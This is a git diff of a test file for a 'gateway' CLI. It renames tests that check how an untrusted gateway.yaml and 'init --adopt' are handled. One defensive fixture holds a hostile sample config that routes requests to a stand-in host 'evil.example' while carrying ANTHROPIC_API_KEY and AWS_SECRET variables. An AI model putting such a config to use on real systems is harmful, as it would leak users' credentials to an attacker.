@@ -126,20 +126,20 @@ describe("a stranger's gateway.yaml in the current folder", () => {
     },
   );
 
-  test("gives no names to completions", async () => {
+  test("a stranger's gateway.yaml gives no names to completions", async () => {
     write(writtenBefore("http://127.0.0.1:9"));
     const { stdout } = await run(inProject(), "__complete", "--", "keys", "show", "");
     expect(stdout).not.toContain("claude");
   });
 
-  test("is not read by the console either", async () => {
+  test("a stranger's gateway.yaml is not read by the console", async () => {
     write(writtenBefore("http://127.0.0.1:9"));
     const screen = runOnTerminal(inProject(), "console");
     await screen.shows("gateway init --adopt gateway.yaml");
     expect(await screen.status).not.toBe(0);
   });
 
-  test("is not adopted by a plain init, which says so", async () => {
+  test("a stranger's gateway.yaml is not adopted by a plain init, which says so", async () => {
     write(writtenBefore("http://127.0.0.1:9"));
     const { status, stderr } = await run(inProject(), "init", "--yes");
     expect(status).toBe(0);
@@ -147,7 +147,7 @@ describe("a stranger's gateway.yaml in the current folder", () => {
     expect(readFileSync(adopted(), "utf8")).toContain("https://api.anthropic.com");
   });
 
-  test("is shown with every address and variable before it is adopted", async () => {
+  test("init --adopt shows every address and variable before a file is adopted", async () => {
     write(
       `channels:
   a: { platform: messages, base_url: "https://\${HOME_HOST:-evil}.example", credential: "\${ANTHROPIC_API_KEY:-}", headers: { x-also: \${AWS_SECRET} } }
@@ -194,7 +194,7 @@ describe("the folder in which gateway 0.1.0 was used", () => {
     expect(await gateway.stop()).toBe(0);
   }
 
-  test("is adopted with its keys and comments, and its ledger continues as one chain", async () => {
+  test("init --adopt keeps keys and comments, and the ledger continues as one chain", async () => {
     const upstream = startDemoUpstream({ credential: CREDENTIAL });
     const ledger = home.join("project", "ledger.jsonl");
     await serveOnce(home.join("project"), writtenBefore(upstream.url));
@@ -241,13 +241,13 @@ describe("the folder in which gateway 0.1.0 was used", () => {
     expect(JSON.parse((await run(elsewhere, "keys", "list", "--json")).stdout)).toHaveLength(1);
   });
 
-  test("without a ledger, starts one next to the config", async () => {
+  test("init --adopt without a ledger starts one next to the config", async () => {
     write("vendor: goog # mine\n");
     expect((await run(inProject(), "init", "--adopt", "gateway.yaml", "--yes")).status).toBe(0);
     expect(readFileSync(adopted(), "utf8")).toBe("vendor: goog # mine\n");
   });
 
-  test("keeps a ledger that the file does not mention, also when it is rotated or not yet written", async () => {
+  test("init --adopt keeps a ledger that the file does not mention, also when it is rotated or not yet written", async () => {
     for (const name of ["ledger.jsonl", "ledger-2026-10.jsonl", "ledger.jsonl.lock"]) {
       write("vendor: goog # mine\n");
       writeFileSync(home.join("project", name), "");
@@ -261,7 +261,7 @@ describe("the folder in which gateway 0.1.0 was used", () => {
     }
   });
 
-  test("keeps other relative paths, and refuses one with a variable", async () => {
+  test("init --adopt keeps other relative paths, and refuses one with a variable", async () => {
     write("ledger: { path: ../money/l.jsonl }\n");
     expect((await run(inProject(), "init", "--adopt", "gateway.yaml", "--yes")).status).toBe(0);
     expect(readFileSync(adopted(), "utf8")).toBe(`ledger: { path: ${home.join("money", "l.jsonl")} }\n`);
@@ -273,7 +273,7 @@ describe("the folder in which gateway 0.1.0 was used", () => {
     expect(stderr).toContain("Change it to an absolute path first");
   });
 
-  test("is not adopted if a config exists or if the file is invalid", async () => {
+  test("init --adopt does nothing if a config exists or if the file is invalid", async () => {
     write("channels: 7\n");
     const wrong = await run(inProject(), "init", "--adopt", "gateway.yaml", "--yes");
     expect([wrong.status, existsSync(adopted())]).toEqual([2, false]);
@@ -291,7 +291,7 @@ describe("the folder in which gateway 0.1.0 was used", () => {
     expect([led.status, existsSync(home.join("gone"))]).toEqual([1, false]);
   });
 
-  test("asks on a terminal, and `no` changes nothing", async () => {
+  test("init --adopt asks on a terminal, and `no` changes nothing", async () => {
     write(writtenBefore("http://127.0.0.1:9"));
     const screen = runOnTerminal(inProject(), "init", "--adopt", "gateway.yaml");
     await screen.shows("Make this file your config?");
@@ -305,7 +305,7 @@ describe("the folder in which gateway 0.1.0 was used", () => {
     expect(existsSync(adopted())).toBe(true);
   });
 
-  test("is not adopted if it changes after it was shown", async () => {
+  test("init --adopt does nothing if the file changes after it was shown", async () => {
     write(writtenBefore("http://127.0.0.1:9"));
     const screen = runOnTerminal(inProject(), "init", "--adopt", "gateway.yaml");
     await screen.shows("Make this file your config?");
